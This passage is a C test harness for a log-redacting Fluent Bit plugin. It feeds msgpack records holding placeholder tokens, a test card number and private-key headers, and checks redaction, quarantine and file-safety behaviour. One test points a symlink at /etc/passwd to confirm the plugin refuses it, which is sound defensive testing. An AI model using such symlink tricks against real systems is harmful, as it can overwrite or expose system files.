/* test_out_logscrub: drives out_logscrub.so through the proxy ABI exactly as Fluent Bit does. */
/* SPDX-License-Identifier: Apache-2.0 */

/*
 * Usage: test_out_logscrub build/out_logscrub.so tests/fluentbit [patterns/default.yaml]
 * (the optional third argument adds a 24 KiB-stack flush with the full rule packs)
 *
 * Plays Fluent Bit's part (fluent-bit-proxy-abi.md): dlopen(RTLD_LAZY), a
 * registration block with canary bytes past offset 31, one init block shared
 * by every instance (o_ins/context overwritten before each Init), an API
 * table whose property getter serves per-instance test properties, chunks
 * built with msgpack-c, and a flush on a 24 KiB makecontext() stack. Output
 * files live in a fresh mkdtemp() directory. Prints "N passed, M failed";
 * exits 1 on any failure.
 *
 * Test globals (the captured log, the ucontext hand-off) are the harness's
 * own; the plugin under test has none.
 */

#include <dlfcn.h>
#include <errno.h>
#include <inttypes.h>
#include <pthread.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/stat.h>
#include <ucontext.h>
#include <unistd.h>

#include <msgpack.h>

#if defined(__has_include)
#if __has_include(<valgrind/memcheck.h>)
#include <valgrind/memcheck.h>
#endif
#endif
#ifndef VALGRIND_MAKE_MEM_DEFINED
#define VALGRIND_MAKE_MEM_DEFINED(p, n) ((void)(p), (void)(n))
#endif

#include "fbp_abi.h"

/* ---- checks -------------------------------------------------------------------- */

static int n_passed;
static int n_failed;

#define CHECK(cond)                                                            \
    do {                                                                       \
        if (cond) {                                                            \
            n_passed++;                                                        \
        }                                                                      \
        else {                                                                 \
            n_failed++;                                                        \
            fprintf(stderr, "  FAIL %s:%d: %s\n", __FILE__, __LINE__, #cond);  \
        }                                                                      \
    } while (0)

#define CHECK_INT(a, b)                                                        \
    do {                                                                       \
        long long a_ = (long long)(a), b_ = (long long)(b);                    \
        if (a_ == b_) {                                                        \
            n_passed++;                                                        \
        }                                                                      \
        else {                                                                 \
            n_failed++;                                                        \
            fprintf(stderr, "  FAIL %s:%d: %s == %lld, expected %lld\n",       \
                    __FILE__, __LINE__, #a, a_, b_);                           \
        }                                                                      \
    } while (0)

/* ---- the plugin's entry points ----------------------------------------------------- */

typedef int (*register_fn)(void *);
typedef int (*init_fn)(void *);
typedef int (*flush_fn)(void *, const void *, size_t, char *);
typedef int (*exit_fn)(void *);
typedef void (*unregister_fn)(void *);

static register_fn p_register;
static init_fn p_init;
static flush_fn p_flush;
static exit_fn p_exit;
static unregister_fn p_unregister;

/* ---- fake Fluent Bit ----------------------------------------------------------------- */

typedef struct fake_ins {
    const char *keys[12];        /* property keys */
    const char *vals[12];        /* property values */
    struct fbp_context ctx;      /* per-instance proxy context */
} fake_ins_t;

/* 4.0.3+ table: the plugin's view plus two trailing members. */
typedef struct fake_api {
    struct fbp_api api;
    void *custom_get_property;
    void *custom_log_check;
} fake_api_t;

/* Init block: four pointers, then five internal callbacks. */
typedef struct fake_plugin {
    char *name;
    struct fbp_api *api;
    void *o_ins;
    struct fbp_context *context;
    void *cb[5];
} fake_plugin_t;

static pthread_mutex_t log_lock = PTHREAD_MUTEX_INITIALIZER;
static char log_text[1 << 16];
static size_t log_len;

static const char *get_prop(const char *key, void *o_ins)
{
    fake_ins_t *ins = o_ins;
    int i;

    for (i = 0; i < 12 && ins->keys[i] != NULL; i++) {
        if (strcasecmp(ins->keys[i], key) == 0) {
            return ins->vals[i];
        }
    }
    return NULL;
}

static void log_print(int level, const char *file, int line, const char *fmt, ...)
{
    char msg[1024];
    va_list ap;
    int n;

    (void)file;
    (void)line;
    va_start(ap, fmt);
    vsnprintf(msg, sizeof(msg), fmt, ap);
    va_end(ap);
    if (getenv("TEST_VERBOSE") != NULL) {
        fprintf(stderr, "  [log %d] %s\n", level, msg);
    }
    pthread_mutex_lock(&log_lock);
    if (log_len > sizeof(log_text) - 2048) {
        log_len = 0;   /* keep the tail: tests only look at recent lines */
    }
    n = snprintf(log_text + log_len, sizeof(log_text) - log_len, "%d %s\n", level, msg);
    if (n > 0) {
        log_len += (size_t)n;
    }
    pthread_mutex_unlock(&log_lock);
}

static int log_check(void *o_ins, int level)
{
    (void)o_ins;
    (void)level;
    return 1;
}

static fake_api_t g_api;
static fake_plugin_t g_plugin;   /* shared by all instances, like Fluent Bit's */

static void log_clear(void)
{
    pthread_mutex_lock(&log_lock);
    log_len = 0;
    log_text[0] = '\0';
    pthread_mutex_unlock(&log_lock);
}

/* Counts of the last chunk summary line in the captured log. */
typedef struct counts {
    long in, clean, quar, drop, markers, result;
} counts_t;

static int last_counts(counts_t *c)
{
    const char *p = NULL;
    const char *q = log_text;

    pthread_mutex_lock(&log_lock);
    log_text[log_len] = '\0';
    while ((q = strstr(q, " in=")) != NULL) {
        p = q;
        q++;
    }
    memset(c, -1, sizeof(*c));
    if (p != NULL) {
        sscanf(p, " in=%ld clean=%ld quarantined=%ld dropped=%ld markers=%ld result=%ld",
               &c->in, &c->clean, &c->quar, &c->drop, &c->markers, &c->result);
    }
    pthread_mutex_unlock(&log_lock);
    return p != NULL ? 0 : -1;
}

static int log_contains(const char *s)
{
    int r;

    pthread_mutex_lock(&log_lock);
    log_text[log_len] = '\0';
    r = strstr(log_text, s) != NULL;
    pthread_mutex_unlock(&log_lock);
    return r;
}

/* Init one instance the way the proxy does: overwrite o_ins/context of the
 * shared block, call Init, read remote_context back. */
static void *init_instance(fake_ins_t *ins, int *rc)
{
    ins->ctx.remote_context = NULL;
    g_plugin.o_ins = ins;
    g_plugin.context = &ins->ctx;
    *rc = p_init(&g_plugin);
    return ins->ctx.remote_context;
}

/* ---- msgpack chunk builders --------------------------------------------------------- */

static void pack_eventtime(msgpack_packer *pk, uint32_t sec, uint32_t nsec)
{
    char b[8];

    b[0] = (char)(sec >> 24);
    b[1] = (char)(sec >> 16);
    b[2] = (char)(sec >> 8);
    b[3] = (char)sec;
    b[4] = (char)(nsec >> 24);
    b[5] = (char)(nsec >> 16);
    b[6] = (char)(nsec >> 8);
    b[7] = (char)nsec;
    msgpack_pack_ext(pk, 8, 0);
    msgpack_pack_ext_body(pk, b, 8);
}

static void pack_cstr(msgpack_packer *pk, const char *s)
{
    msgpack_pack_str(pk, strlen(s));
    msgpack_pack_str_body(pk, s, strlen(s));
}

/* Raw map headers of a chosen width (msgpack-c always picks the smallest). */
static void pack_map_width(msgpack_sbuffer *sb, uint32_t n, int width)
{
    unsigned char h[5];

    if (width == 32) {
        h[0] = 0xdf;
        h[1] = (unsigned char)(n >> 24);
        h[2] = (unsigned char)(n >> 16);
        h[3] = (unsigned char)(n >> 8);
        h[4] = (unsigned char)n;
        msgpack_sbuffer_write(sb, (const char *)h, 5);
    }
    else if (width == 16) {
        h[0] = 0xde;
        h[1] = (unsigned char)(n >> 8);
        h[2] = (unsigned char)n;
        msgpack_sbuffer_write(sb, (const char *)h, 3);
    }
    else {
        h[0] = (unsigned char)(0x80 | n);
        msgpack_sbuffer_write(sb, (const char *)h, 1);
    }
}

/* v2 header [[EventTime, meta{}], ...] with an empty meta of the given width. */
static void pack_v2_head(msgpack_sbuffer *sb, msgpack_packer *pk, uint32_t sec, uint32_t nsec,
                         int meta_width)
{
    msgpack_pack_array(pk, 2);
    msgpack_pack_array(pk, 2);
    pack_eventtime(pk, sec, nsec);
    pack_map_width(sb, 0, meta_width);
}

/* One v2 record {key: value} with fixmap/map16/map32 body. */
static void rec_v2_kv(msgpack_sbuffer *sb, uint32_t sec, uint32_t nsec, int width,
                      const char *key, const char *val)
{
    msgpack_packer pk;

    msgpack_packer_init(&pk, sb, msgpack_sbuffer_write);
    pack_v2_head(sb, &pk, sec, nsec, width == 8 ? 8 : 32);
    pack_map_width(sb, 1, width);
    pack_cstr(&pk, key);
    pack_cstr(&pk, val);
}

/* ---- files ------------------------------------------------------------------------- */

static char tmpdir[256];

static char *path_in(const char *name)
{
    static char buf[8][512];
    static int k;
    char *p = buf[k++ % 8];

    snprintf(p, 512, "%s/%s", tmpdir, name);
    return p;
}

/* Whole file as a NUL-terminated string (NULL if absent). Caller frees. */
static char *slurp(const char *path, size_t *len)
{
    FILE *f = fopen(path, "rb");
    char *buf;
    long n;

    if (f == NULL) {
        return NULL;
    }
    fseek(f, 0, SEEK_END);
    n = ftell(f);
    fseek(f, 0, SEEK_SET);
    buf = malloc((size_t)n + 1);
    if (buf == NULL || fread(buf, 1, (size_t)n, f) != (size_t)n) {
        free(buf);
        fclose(f);
        return NULL;
    }
    buf[n] = '\0';
    fclose(f);
    if (len != NULL) {
        *len = (size_t)n;
    }
    return buf;
}

static long count_lines(const char *s)
{
    long n = 0;

    for (; s != NULL && *s != '\0'; s++) {
        n += *s == '\n';
    }
    return n;
}

static int file_has(const char *path, const char *needle)
{
    char *s = slurp(path, NULL);
    int r = s != NULL && strstr(s, needle) != NULL;

    free(s);
    return r;
}

static long file_lines(const char *path)
{
    char *s = slurp(path, NULL);
    long n = count_lines(s);

    free(s);
    return n;
}

/* 1 when every line of the file parses as JSON (python3), -1 if python3 is missing. */
static int jsonl_valid(const char *path)
{
    char cmd[1024];
    int rc;

    if (system("python3 -c 'pass' >/dev/null 2>&1") != 0) {
        return -1;
    }
    snprintf(cmd, sizeof(cmd),
             "python3 -c 'import json,sys; [json.loads(l) for l in sys.stdin]' < '%s'", path);
    rc = system(cmd);
    return rc == 0;
}

/* ---- the 24 KiB stack ----------------------------------------------------------------- */

#define SMALL_STACK (24 * 1024)

static ucontext_t uc_main;
static ucontext_t uc_flush;
static void *uc_rctx;
static const void *uc_data;
static size_t uc_len;
static char *uc_tag;
static int uc_ret;

static void flush_trampoline(void)
{
    uc_ret = p_flush(uc_rctx, uc_data, uc_len, uc_tag);
}

/* Run one flush on a SMALL_STACK-byte stack; *used receives the stack high
 * water mark (bytes written below the top). */
static int flush_on_small_stack(void *rctx, const void *data, size_t len, char *tag,
                                size_t *used)
{
    unsigned char *stack = malloc(SMALL_STACK);
    size_t i;

    memset(stack, 0xcd, SMALL_STACK);
    getcontext(&uc_flush);
    uc_flush.uc_stack.ss_sp = stack;
    uc_flush.uc_stack.ss_size = SMALL_STACK;
    uc_flush.uc_link = &uc_main;
    uc_rctx = rctx;
    uc_data = data;
    uc_len = len;
    uc_tag = tag;
    uc_ret = -1;
    makecontext(&uc_flush, flush_trampoline, 0);
    swapcontext(&uc_main, &uc_flush);
    /* memcheck marks the frames the flush popped as unaddressable (their bytes are
     * still there): readable again, so the measurement also runs under valgrind */
    VALGRIND_MAKE_MEM_DEFINED(stack, SMALL_STACK);
    for (i = 0; i < SMALL_STACK && stack[i] == 0xcd; i++) {
    }
    *used = SMALL_STACK - i;
    free(stack);
    return uc_ret;
}

/* ---- concurrency ------------------------------------------------------------------------ */

typedef struct flusher {
    void *rctx;
    const char *data;
    size_t len;
    int rounds;
    int bad;
} flusher_t;

static void *flusher_main(void *arg)
{
    flusher_t *f = arg;
    char tag[] = "workers";
    int i;

    for (i = 0; i < f->rounds; i++) {
        if (p_flush(f->rctx, f->data, f->len, tag) != FBP_OK) {
            f->bad++;
        }
    }
    return NULL;
}

/* ---- tests -------------------------------------------------------------------------------- */

static void test_exports(const char *so)
{
    char cmd[600];
    char line[512];
    FILE *p;
    int n = 0, bad = 0;

    snprintf(cmd, sizeof(cmd), "nm -D --defined-only '%s' 2>/dev/null", so);
    p = popen(cmd, "r");
    if (p == NULL) {
        CHECK(!"popen nm");
        return;
    }
    while (fgets(line, sizeof(line), p) != NULL) {
        char *sym = strrchr(line, ' ');

        if (sym == NULL) {
            continue;
        }
        sym++;
        sym[strcspn(sym, "\n")] = '\0';
        n++;
        if (strncmp(sym, "FLBPlugin", 9) != 0) {
            fprintf(stderr, "  unexpected export: %s\n", sym);
            bad++;
        }
    }
    pclose(p);
    CHECK_INT(n, 5);
    CHECK_INT(bad, 0);

    /* libraries fluent-bit bundles and exports must not be loaded beside it */
    snprintf(cmd, sizeof(cmd), "objdump -p '%s' 2>/dev/null", so);
    p = popen(cmd, "r");
    if (p == NULL) {
        return;
    }
    bad = 0;
    while (fgets(line, sizeof(line), p) != NULL) {
        if (strstr(line, "NEEDED") == NULL) {
            continue;
        }
        if (strstr(line, "rdkafka") != NULL || strstr(line, "microhttpd") != NULL) {
            fprintf(stderr, "  unexpected dependency:%s", line);
            bad++;
        }
        if (strstr(line, "msgpack") != NULL) {
            fprintf(stderr, "  note: msgpack-c is linked dynamically (no libmsgpackc.a); "
                    "fluent-bit's copy will interpose\n");
        }
    }
    pclose(p);
    CHECK_INT(bad, 0);
}

static void test_register(void)
{
    unsigned char *def = malloc(48);
    struct fbp_def_v1 *d = (struct fbp_def_v1 *)def;
    int i, canary_ok = 1;

    memset(def, 0xa5, 48);
    CHECK_INT(p_register(def), 0);
    CHECK_INT(d->kind, FBP_TYPE_OUTPUT);
    CHECK_INT(d->proxy, FBP_PROXY_GOLANG);
    CHECK_INT(d->flags, 0);
    CHECK(d->name != NULL && strcmp(d->name, "logscrub") == 0);
    CHECK(d->description != NULL && d->description[0] != '\0');
    for (i = 32; i < 48; i++) {
        canary_ok &= def[i] == 0xa5;
    }
    CHECK(canary_ok);   /* nothing written past offset 31 */
    p_unregister(def);
    free(def);
}

static void test_init_failures(const char *dir)
{
    static char rules[512];
    fake_ins_t ins;
    int rc;
    void *r;

    snprintf(rules, sizeof(rules), "%s/rules.yaml", dir);

    memset(&ins, 0, sizeof(ins));
    ins.keys[0] = "clean";
    ins.vals[0] = path_in("x.jsonl");
    r = init_instance(&ins, &rc);
    CHECK(rc <= 0);                     /* config missing */
    CHECK(r == NULL);
    CHECK(log_contains("'config'"));

    memset(&ins, 0, sizeof(ins));
    ins.keys[0] = "config";
    ins.vals[0] = path_in("nonexistent.yaml");
    r = init_instance(&ins, &rc);
    CHECK(rc <= 0);

    /* a symlink as quarantine file is refused */
    CHECK_INT(symlink("/etc/passwd", path_in("link.jsonl")), 0);
    memset(&ins, 0, sizeof(ins));
    ins.keys[0] = "config";
    ins.vals[0] = rules;
    ins.keys[1] = "quarantine";
    ins.vals[1] = path_in("link.jsonl");
    ins.keys[2] = "clean";
    ins.vals[2] = path_in("x.jsonl");
    r = init_instance(&ins, &rc);
    CHECK(rc <= 0);
    CHECK(r == NULL);
    CHECK(log_contains("symbolic links are refused"));

    /* a world-readable audit file is refused */
    {
        FILE *f = fopen(path_in("open.jsonl"), "w");

        fclose(f);
        chmod(path_in("open.jsonl"), 0644);
    }
    ins.keys[1] = "audit";
    ins.vals[1] = path_in("open.jsonl");
    r = init_instance(&ins, &rc);
    CHECK(rc <= 0);

    /* unsupported values */
    ins.keys[1] = "format";
    ins.vals[1] = "msgpack";
    r = init_instance(&ins, &rc);
    CHECK(rc <= 0);
    ins.keys[1] = "fail_mode";
    ins.vals[1] = "sometimes";
    r = init_instance(&ins, &rc);
    CHECK(rc <= 0);
    ins.keys[1] = "clean";
    ins.vals[1] = "kafka:clean-topic";
    ins.keys[2] = NULL;
    r = init_instance(&ins, &rc);
    CHECK(rc <= 0);
    CHECK(log_contains("not supported yet"));
    (void)r;
}

int main(int argc, char **argv)
{
    void *so;
    static char rules[512];
    fake_ins_t a, b, c, d;
    void *ra, *rb, *rc_full, *rd_full;
    msgpack_sbuffer sb;
    msgpack_packer pk;
    counts_t cnt;
    char tag_a[] = "app.a";
    char tag_b[] = "app.b";
    char *s;
    int rc;
    struct stat st;

    if (argc < 3) {
        fprintf(stderr, "usage: %s out_logscrub.so tests/fluentbit\n", argv[0]);
        return 2;
    }
    snprintf(rules, sizeof(rules), "%s/rules.yaml", argv[2]);
    snprintf(tmpdir, sizeof(tmpdir), "/tmp/test_out_logscrub.XXXXXX");
    if (mkdtemp(tmpdir) == NULL) {
        perror("mkdtemp");
        return 2;
    }

    /* dlopen like flb_plugin_proxy_create() */
    so = dlopen(argv[1], RTLD_LAZY);
    if (so == NULL) {
        fprintf(stderr, "dlopen: %s\n", dlerror());
        return 2;
    }
    *(void **)&p_register = dlsym(so, "FLBPluginRegister");
    *(void **)&p_init = dlsym(so, "FLBPluginInit");
    *(void **)&p_flush = dlsym(so, "FLBPluginFlushCtx");
    *(void **)&p_exit = dlsym(so, "FLBPluginExitCtx");
    *(void **)&p_unregister = dlsym(so, "FLBPluginUnregister");
    CHECK(p_register && p_init && p_flush && p_exit && p_unregister);
    CHECK(dlsym(so, "FLBPluginFlush") == NULL);   /* FlushCtx is the one used */
    CHECK(dlsym(so, "msgpack_unpack") == NULL);    /* private copy stays private */
    if (!(p_register && p_init && p_flush && p_exit && p_unregister)) {
        printf("%d passed, %d failed\n", n_passed, n_failed);
        return 1;
    }

    test_exports(argv[1]);
    test_register();

    g_api.api.output_get_property = get_prop;
    g_api.api.log_print = log_print;
    g_api.api.output_log_check = log_check;
    g_plugin.name = "logscrub";
    g_plugin.api = &g_api.api;

    test_init_failures(argv[2]);

    /* ---- two instances ---- */
    memset(&a, 0, sizeof(a));
    a.keys[0] = "Config";   a.vals[0] = rules;
    a.keys[1] = "clean";    a.vals[1] = path_in("a-clean.jsonl");
    a.keys[2] = "quarantine"; a.vals[2] = path_in("a-quar.jsonl");
    a.keys[3] = "audit";    a.vals[3] = path_in("a-audit.jsonl");
    a.keys[4] = "format";   a.vals[4] = "json_lines";
    a.keys[5] = "fsync";    a.vals[5] = "on";
    memset(&b, 0, sizeof(b));
    b.keys[0] = "config";   b.vals[0] = rules;
    b.keys[1] = "clean";    b.vals[1] = path_in("b-clean.jsonl");
    b.keys[2] = "keys";     b.vals[2] = " password , user.token,,";
    b.keys[3] = "fail_mode"; b.vals[3] = "retry";
    ra = init_instance(&a, &rc);
    CHECK_INT(rc, FBP_OK);
    rb = init_instance(&b, &rc);
    CHECK_INT(rc, FBP_OK);
    CHECK(ra != NULL && rb != NULL && ra != rb);
    if (ra == NULL || rb == NULL) {
        printf("%d passed, %d failed\n", n_passed, n_failed);
        return 1;
    }
    CHECK(stat(path_in("a-quar.jsonl"), &st) == 0 && (st.st_mode & 0777) == 0600);
    CHECK(stat(path_in("a-audit.jsonl"), &st) == 0 && (st.st_mode & 0777) == 0600);

    /* ---- chunk 1: v2 records, EventTime, fixmap/map16/map32, a group ---- */
    msgpack_sbuffer_init(&sb);
    msgpack_packer_init(&pk, &sb, msgpack_sbuffer_write);
    /* dummy-like: fixmap meta and body */
    rec_v2_kv(&sb, 1700000000, 500000000, 8, "msg", "Authorization: Bearer abcdef0123456789");
    /* tail-like: map32 meta and body */
    rec_v2_kv(&sb, 1700000001, 0, 32, "log", "plain line, nothing here");
    /* map16 body */
    rec_v2_kv(&sb, 1700000002, 1, 16, "log", "bearer   tok_map16_secret_zz");
    /* group start marker, a record inside the group, group end marker */
    msgpack_pack_array(&pk, 2);
    msgpack_pack_array(&pk, 2);
    pack_eventtime(&pk, 0xFFFFFFFFu, 0);
    msgpack_pack_map(&pk, 1);
    pack_cstr(&pk, "resource");
    pack_cstr(&pk, "svc");
    msgpack_pack_map(&pk, 0);
    rec_v2_kv(&sb, 1700000003, 0, 8, "msg", "in group");
    msgpack_pack_array(&pk, 2);
    msgpack_pack_array(&pk, 2);
    pack_eventtime(&pk, 0xFFFFFFFEu, 0);
    msgpack_pack_map(&pk, 0);
    msgpack_pack_map(&pk, 0);
    /* array32 record and header arrays (what Fluent Bit 4.2.8's encoder writes) */
    msgpack_sbuffer_write(&sb, "\xdd\x00\x00\x00\x02\xdd\x00\x00\x00\x02", 10);
    pack_eventtime(&pk, 1700000005, 5);
    pack_map_width(&sb, 0, 32);
    pack_map_width(&sb, 1, 32);
    pack_cstr(&pk, "log");
    pack_cstr(&pk, "array32 Bearer array32_secret_42");
    /* non-empty metadata with a secret in it */
    msgpack_pack_array(&pk, 2);
    msgpack_pack_array(&pk, 2);
    pack_eventtime(&pk, 1700000004, 0);
    msgpack_pack_map(&pk, 1);
    pack_cstr(&pk, "otel");
    pack_cstr(&pk, "Bearer metadata_secret_123");
    msgpack_pack_map(&pk, 1);
    pack_cstr(&pk, "msg");
    pack_cstr(&pk, "ok");

    log_clear();
    CHECK_INT(p_flush(ra, sb.data, sb.size, tag_a), FBP_OK);
    CHECK_INT(last_counts(&cnt), 0);
    CHECK_INT(cnt.in, 6);
    CHECK_INT(cnt.clean, 6);
    CHECK_INT(cnt.markers, 2);
    CHECK_INT(cnt.in, cnt.clean + cnt.quar + cnt.drop);
    s = slurp(path_in("a-clean.jsonl"), NULL);
    CHECK(s != NULL);
    if (s != NULL) {
        CHECK_INT(count_lines(s), 6);
        CHECK(strstr(s, "{\"date\":1700000005.000000005,\"tag\":\"app.a\",\"log\":"
                        "\"array32 Bearer [REDACTED:test-bearer]\"}\n") != NULL);
        CHECK(strstr(s, "abcdef0123456789") == NULL);
        CHECK(strstr(s, "tok_map16_secret_zz") == NULL);
        CHECK(strstr(s, "metadata_secret_123") == NULL);
        CHECK(strstr(s, "{\"date\":1700000000.500000000,\"tag\":\"app.a\",\"msg\":"
                        "\"Authorization: Bearer [REDACTED:test-bearer]\"}\n") != NULL);
        CHECK(strstr(s, "\"log\":\"plain line, nothing here\"") != NULL);
        CHECK(strstr(s, "\"date\":1700000002.000000001") != NULL);
        CHECK(strstr(s, "\"metadata\":{\"otel\":\"Bearer [REDACTED:test-bearer]\"}") != NULL);
        CHECK(strstr(s, "resource") == NULL);   /* group markers skipped */
        CHECK(strstr(s, "in group") != NULL);
    }
    free(s);
    CHECK(file_has(path_in("a-audit.jsonl"), "\"rule\":\"test-bearer\""));
    CHECK(!file_has(path_in("a-audit.jsonl"), "abcdef0123456789"));
    msgpack_sbuffer_destroy(&sb);

    /* ---- chunk 2: v1 records, int and float timestamps, nesting, bin, actions ---- */
    msgpack_sbuffer_init(&sb);
    msgpack_packer_init(&pk, &sb, msgpack_sbuffer_write);
    /* [int ts, {nested}] */
    msgpack_pack_array(&pk, 2);
    msgpack_pack_uint32(&pk, 1600000000);
    msgpack_pack_map(&pk, 8);
    pack_cstr(&pk, "req");
    msgpack_pack_map(&pk, 1);
    pack_cstr(&pk, "headers");
    msgpack_pack_map(&pk, 2);
    pack_cstr(&pk, "authorization");
    pack_cstr(&pk, "Bearer nested_secret_4567");
    pack_cstr(&pk, "accept");
    pack_cstr(&pk, "*/*");
    pack_cstr(&pk, "list");
    msgpack_pack_array(&pk, 3);
    pack_cstr(&pk, "ok");
    pack_cstr(&pk, "Bearer array_secret_8910");
    msgpack_pack_map(&pk, 1);
    pack_cstr(&pk, "deep");
    pack_cstr(&pk, "bearer deep_array_map_secret");
    pack_cstr(&pk, "bin");
    msgpack_pack_bin(&pk, 26);
    msgpack_pack_bin_body(&pk, "Bearer binary_secret_0001\xff", 26);
    pack_cstr(&pk, "n");
    msgpack_pack_int64(&pk, -42);
    pack_cstr(&pk, "f");
    msgpack_pack_double(&pk, 0.5);
    pack_cstr(&pk, "card");
    msgpack_pack_uint64(&pk, 4111111111111111ULL);
    pack_cstr(&pk, "flags");
    msgpack_pack_array(&pk, 3);
    msgpack_pack_true(&pk);
    msgpack_pack_false(&pk);
    msgpack_pack_nil(&pk);
    pack_cstr(&pk, "quote");
    pack_cstr(&pk, "say \"hi\"\n\ttab \\ done");
    /* [float ts, {...}] */
    msgpack_pack_array(&pk, 2);
    msgpack_pack_double(&pk, 1500000000.25);
    msgpack_pack_map(&pk, 1);
    pack_cstr(&pk, "msg");
    pack_cstr(&pk, "float time");
    /* quarantine: a private key header */
    msgpack_pack_array(&pk, 2);
    pack_eventtime(&pk, 1700000010, 0);
    msgpack_pack_map(&pk, 2);
    pack_cstr(&pk, "a");
    pack_cstr(&pk, "fine");
    pack_cstr(&pk, "key");
    pack_cstr(&pk, "-----BEGIN RSA PRIVATE KEY-----MIIEpQIBAAKCAQEA");
    /* drop */
    msgpack_pack_array(&pk, 2);
    pack_eventtime(&pk, 1700000011, 0);
    msgpack_pack_map(&pk, 1);
    pack_cstr(&pk, "msg");
    pack_cstr(&pk, "noise DROPME-1234");
    /* drop and quarantine in one record: quarantine wins */
    msgpack_pack_array(&pk, 2);
    pack_eventtime(&pk, 1700000012, 0);
    msgpack_pack_map(&pk, 2);
    pack_cstr(&pk, "x");
    pack_cstr(&pk, "DROPME-9999");
    pack_cstr(&pk, "y");
    pack_cstr(&pk, "-----BEGIN PRIVATE KEY-----");
    /* a record whose body is not a map: quarantined raw */
    msgpack_pack_array(&pk, 2);
    pack_eventtime(&pk, 1700000013, 0);
    pack_cstr(&pk, "not a map");
    /* a record with a negative int timestamp other than -1/-2: invalid */
    msgpack_pack_array(&pk, 2);
    msgpack_pack_int64(&pk, -7);
    msgpack_pack_map(&pk, 0);

    log_clear();
    {
        size_t used = 0;

        rc = flush_on_small_stack(ra, sb.data, sb.size, tag_a, &used);
        CHECK_INT(rc, FBP_OK);
        CHECK(used > 0 && used < SMALL_STACK);
        fprintf(stderr, "  flush on a %d-byte stack used %zu bytes\n", SMALL_STACK, used);
    }
    CHECK_INT(last_counts(&cnt), 0);
    CHECK_INT(cnt.in, 7);
    CHECK_INT(cnt.clean, 2);
    CHECK_INT(cnt.quar, 4);
    CHECK_INT(cnt.drop, 1);
    CHECK_INT(cnt.in, cnt.clean + cnt.quar + cnt.drop);
    s = slurp(path_in("a-clean.jsonl"), NULL);
    if (s != NULL) {
        CHECK_INT(count_lines(s), 8);
        CHECK(strstr(s, "nested_secret_4567") == NULL);
        CHECK(strstr(s, "array_secret_8910") == NULL);
        CHECK(strstr(s, "deep_array_map_secret") == NULL);
        CHECK(strstr(s, "binary_secret_0001") == NULL);
        CHECK(strstr(s, "4111111111111111") == NULL);
        CHECK(strstr(s, "MIIEpQIBAAKCAQEA") == NULL);
        CHECK(strstr(s, "DROPME") == NULL);
        /* the value is redacted by the bearer rule or by a key rule on the
         * path req.headers.authorization (the core's default keys) */
        CHECK(strstr(s, "{\"date\":1600000000.000000000,\"tag\":\"app.a\",\"req\":{\"headers\":"
                        "{\"authorization\":\"") != NULL);
        CHECK(strstr(s, "[REDACTED:key.authorization]\",\"accept\":") != NULL ||
              strstr(s, "\"Bearer [REDACTED:test-bearer]\",\"accept\":") != NULL);
        CHECK(strstr(s, "\"accept\":\"*/*\"}},\"list\":[\"ok\",\"Bearer [REDACTED:test-bearer]\","
                        "{\"deep\":\"bearer [REDACTED:test-bearer]\"}],") != NULL);
        CHECK(strstr(s, "\"n\":-42,\"f\":0.5,\"card\":\"[REDACTED:test-card]\","
                        "\"flags\":[true,false,null]") != NULL);
        CHECK(strstr(s, "\"quote\":\"say \\\"hi\\\"\\n\\ttab \\\\ done\"") != NULL);
        CHECK(strstr(s, "{\"date\":1500000000.250000000,\"tag\":\"app.a\",\"msg\":\"float time\"}")
              != NULL);
    }
    free(s);
    s = slurp(path_in("a-quar.jsonl"), NULL);
    CHECK(s != NULL);
    if (s != NULL) {
        CHECK_INT(count_lines(s), 4);
        CHECK(strstr(s, "\"rule\":\"test-privkey\"") != NULL);
        CHECK(strstr(s, "MIIEpQIBAAKCAQEA") != NULL);   /* held back whole, original */
        CHECK(strstr(s, "\"reason\":\"invalid_record\"") != NULL);
        CHECK(strstr(s, "\"msgpack_base64\":") != NULL);
    }
    free(s);
    CHECK(file_has(path_in("a-audit.jsonl"), "\"rule\":\"test-drop\""));
    CHECK(file_has(path_in("a-audit.jsonl"), "\"rule\":\"test-card\""));
    CHECK(file_has(path_in("a-audit.jsonl"), "\"path\":\"req.headers.authorization\""));
    CHECK(!file_has(path_in("a-audit.jsonl"), "nested_secret_4567"));
    CHECK(!file_has(path_in("a-audit.jsonl"), "4111111111111111"));

    /* ---- instance B: same chunk, different sinks, keys override ---- */
    msgpack_sbuffer_clear(&sb);
    msgpack_pack_array(&pk, 2);
    pack_eventtime(&pk, 1700000020, 0);
    msgpack_pack_map(&pk, 3);
    pack_cstr(&pk, "password");
    pack_cstr(&pk, "hunter2");
    pack_cstr(&pk, "user");
    msgpack_pack_map(&pk, 2);
    pack_cstr(&pk, "name");
    pack_cstr(&pk, "bob");
    pack_cstr(&pk, "token");
    msgpack_pack_map(&pk, 1);
    pack_cstr(&pk, "v");
    msgpack_pack_int(&pk, 123456);
    pack_cstr(&pk, "pin");
    msgpack_pack_int(&pk, 1234);
    {
        long before = file_lines(path_in("a-clean.jsonl"));

        log_clear();
        CHECK_INT(p_flush(rb, sb.data, sb.size, tag_b), FBP_OK);
        CHECK_INT(file_lines(path_in("a-clean.jsonl")), before);   /* instances are separate */
    }
    s = slurp(path_in("b-clean.jsonl"), NULL);
    CHECK(s != NULL);
    if (s != NULL) {
        CHECK(strstr(s, "hunter2") == NULL);
        CHECK(strstr(s, "123456") == NULL);
        CHECK(strstr(s, "{\"date\":1700000020.000000000,\"tag\":\"app.b\",\"password\":"
                        "\"[REDACTED:plugin.keys]\",\"user\":{\"name\":\"bob\",\"token\":"
                        "\"[REDACTED:plugin.keys]\"},\"pin\":1234}\n") != NULL);
    }
    free(s);

    /* ---- invalid msgpack: FLB_ERROR, the chunk goes to quarantine ---- */
    msgpack_sbuffer_clear(&sb);
    rec_v2_kv(&sb, 1700000030, 0, 8, "msg", "good record before the damage");
    msgpack_sbuffer_write(&sb, "\x92\x92\xd7\x00\x01\x02", 6);   /* truncated */
    {
        long q_before = file_lines(path_in("a-quar.jsonl"));

        log_clear();
        CHECK_INT(p_flush(ra, sb.data, sb.size, tag_a), FBP_ERROR);
        CHECK_INT(file_lines(path_in("a-quar.jsonl")), q_before + 1);
        CHECK(file_has(path_in("a-quar.jsonl"), "\"reason\":\"undecodable\""));
        CHECK(file_has(path_in("a-clean.jsonl"), "good record before the damage"));
        msgpack_sbuffer_clear(&sb);
        msgpack_sbuffer_write(&sb, "\xc1\xc1\xc1", 3);
        CHECK_INT(p_flush(ra, sb.data, sb.size, tag_a), FBP_ERROR);
        CHECK_INT(file_lines(path_in("a-quar.jsonl")), q_before + 2);
